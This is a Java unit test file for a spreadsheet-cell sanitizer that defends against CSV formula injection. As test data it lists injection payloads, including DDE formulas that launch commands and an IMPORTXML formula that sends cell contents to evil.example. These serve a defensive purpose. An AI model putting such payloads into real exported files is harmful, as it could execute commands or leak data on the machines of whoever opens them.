package cn.estation.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeCellTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|'/c calc'!A0",
                "+1",
                "-1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u3000=1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\u0000=1+1",
                "＝HYPERLINK(\"http://evil.example\")",
                "＋1",
                "－1",
                "＠SUM(1)",
                "%0A=1",
                "|cmd",
                "'=1+1",
                "''=1+1",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            })
    void whatBeginsLikeAFormulaBecomesText(String text) {
        assertThat(SafeCell.out(text)).isEqualTo("'" + text);
        assertThat(SafeCell.in(SafeCell.out(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "老年证", "1+1=2", "a@b", "'老王'说", "'", "3-5 个工作日", "😀=1"})
    void whatDoesNotStaysAsItIs(String text) {
        assertThat(SafeCell.out(text)).isEqualTo(text);
        assertThat(SafeCell.in(text)).isEqualTo(text);
    }

    @Test
    void nothingIsLongerThanACell() {
        assertThat(SafeCell.out("=".repeat(40_000))).hasSize(32_001);
    }

    @Test
    void aLongRunOfBlanksCostsNothing() {
        long start = System.nanoTime();
        SafeCell.out("'".repeat(16_000) + " ".repeat(16_000));
        assertThat(System.nanoTime() - start).isLessThan(2_000_000_000L);
    }
}
